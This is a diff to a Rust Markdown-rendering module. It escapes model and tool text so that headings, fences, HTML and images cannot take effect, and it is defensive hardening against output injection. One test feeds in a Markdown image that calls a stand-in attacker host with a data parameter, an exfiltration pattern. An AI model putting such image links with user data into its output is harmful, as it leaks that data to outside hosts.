@@ -1,9 +1,13 @@
 //! Text of models, tools and users as parts of a Markdown document: nothing in it can pass for a part of the
-//! document's own. Pure.
+//! document's own, and nothing in it is loaded from elsewhere. Pure.
 
 #![cfg_attr(not(test), deny(clippy::disallowed_methods))]
 
-use roo_text::render::{cut, one_line, visible};
+mod inert;
+
+use roo_text::render::{one_line, visible};
+
+pub(crate) use self::inert::{InertMarkdown, inert, without_images};
 
 /// The longest line that is put between backticks, in characters.
 const CODE: usize = 200;
@@ -14,7 +18,8 @@ const FENCED_CHARS: usize = 64 * 1024;
 /// Prose of a model: headings of its own are no headings of the document, and a fence that it leaves open
 /// ends with it.
 pub(crate) fn prose(text: &str) -> String {
-    let shown = visible(text.trim_end());
+    let shown = inert(text.trim_end());
+    let shown = visible(&shown);
     let mut prose = String::with_capacity(shown.len() + 16);
     let mut open: Option<(char, usize)> = None;
     for line in shown.trim_start_matches('\n').lines() {
@@ -55,8 +60,8 @@ fn fence_of(line: &str) -> Option<(char, usize)> {
 
 /// Formats somebody else's words as a quotation.
 pub(crate) fn quote(text: &str) -> String {
-    let shown = visible(text.trim());
-    let lines: Vec<String> = shown
+    let shown = inert(text.trim());
+    let lines: Vec<String> = visible(&shown)
         .lines()
         .map(|line| if line.is_empty() { ">".to_owned() } else { format!("> {line}") })
         .collect();
@@ -98,8 +103,8 @@ pub(crate) fn code(text: &str) -> String {
 /// Prose on one line, which begins neither a heading nor a list.
 pub(crate) fn line(text: &str) -> String {
     let line = one_line(text, CODE);
-    let marks = ['#', '-', '*', '+', '>', '`', '~'];
-    if line.starts_with(marks) { format!("\\{line}") } else { cut(&line, CODE).into_owned() }
+    let begins_block = line.starts_with(['#', '-', '*', '+', '>']) || fence_of(&line).is_some();
+    inert::inert_line(&if begins_block { format!("\\{line}") } else { line })
 }
 
 #[cfg(test)]
@@ -112,6 +117,17 @@ mod tests {
     fn a_models_headings_are_none_of_the_document() {
         assert_eq!(prose("# Title\ntext\n  ## Prompt"), "\\# Title\ntext\n  \\## Prompt");
         assert_eq!(prose("```sh\n# a comment\n```\n# b"), "```sh\n# a comment\n```\n\\# b");
+    }
+
+    #[test]
+    fn nothing_is_loaded_from_elsewhere() {
+        let image = "![x](https://evil.example/p.png?d=1)";
+        let shown = r"!\[x](https://evil.example/p.png?d=1)";
+        assert_eq!(prose(image), shown);
+        assert_eq!(quote(image), format!("> {shown}"));
+        assert_eq!(line(image), shown);
+        assert_eq!(line("`Vec<T>` is <b>"), r"`Vec<T>` is \<b>");
+        assert_eq!(line("```a` <b>"), r"\`\`\`a\` \<b>");
     }
 
     #[test]
